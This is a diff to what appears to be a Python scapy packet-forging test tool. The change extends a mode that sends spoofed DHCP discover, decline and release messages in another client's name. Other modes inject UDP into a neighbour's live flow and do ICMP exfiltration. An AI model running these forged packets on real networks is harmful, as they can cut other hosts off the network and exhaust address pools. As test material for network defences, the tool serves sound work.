@@ -10,9 +10,11 @@ icmp-exfil IFACE Z FLOWDST SPORT DPORT N
 same-tuple IFACE SRC DST SPORT DPORT N
                                      UDP SRC:SPORT -> DST:DPORT (a neighbour's live flow)
                                      from our MAC
-dhcp-as IFACE CHADDR TYPE IP N       DHCP TYPE (discover, decline, release) from
-                                     0.0.0.0 and our MAC, naming CHADDR as its client and
-                                     IP as the address (declined, released)
+dhcp-as IFACE CHADDR TYPE IP N [SRC SPORT DST]
+                                     DHCP TYPE (discover, decline, release) from our MAC,
+                                     naming CHADDR as its client and IP as the address
+                                     (declined, released); from 0.0.0.0:68 to the
+                                     broadcast, or from SRC:SPORT to DST
 """
 import sys
 from scapy.all import ARP, BOOTP, DHCP, ICMP, IP, UDP, Ether, Raw, conf, get_if_addr, get_if_hwaddr, getmacbyip, sendp
@@ -47,9 +49,12 @@ elif mode == "same-tuple":
     frame = Ether(src=mac, dst=gw_mac(dst)) / IP(src=src, dst=dst) / UDP(sport=sport, dport=dport) / Raw(b"evil same tuple")
 elif mode == "dhcp-as":
     chaddr, kind, ip, n = sys.argv[3], sys.argv[4], sys.argv[5], int(sys.argv[6])
+    src, sport, dst = (sys.argv[7], int(sys.argv[8]), sys.argv[9]) if len(sys.argv) > 9 else ("0.0.0.0", 68, "255.255.255.255")
     options = [("message-type", kind), ("requested_addr", ip), ("server_id", ip.rsplit(".", 1)[0] + ".1"), "end"]
-    bootp = BOOTP(op=1, chaddr=bytes.fromhex(chaddr.replace(":", "")) + b"\0" * 10, xid=0x5EED)
-    frame = Ether(src=mac, dst=bcast) / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67) / bootp / DHCP(options=options)
+    ciaddr = ip if kind == "release" else "0.0.0.0"
+    bootp = BOOTP(op=1, chaddr=bytes.fromhex(chaddr.replace(":", "")) + b"\0" * 10, xid=0x5EED, ciaddr=ciaddr)
+    eth_dst = bcast if dst == "255.255.255.255" else gw_mac(dst)
+    frame = Ether(src=mac, dst=eth_dst) / IP(src=src, dst=dst) / UDP(sport=sport, dport=67) / bootp / DHCP(options=options)
 else:
     sys.exit(f"unknown mode {mode}")
 sendp(frame, iface=iface, count=n, inter=0.01)
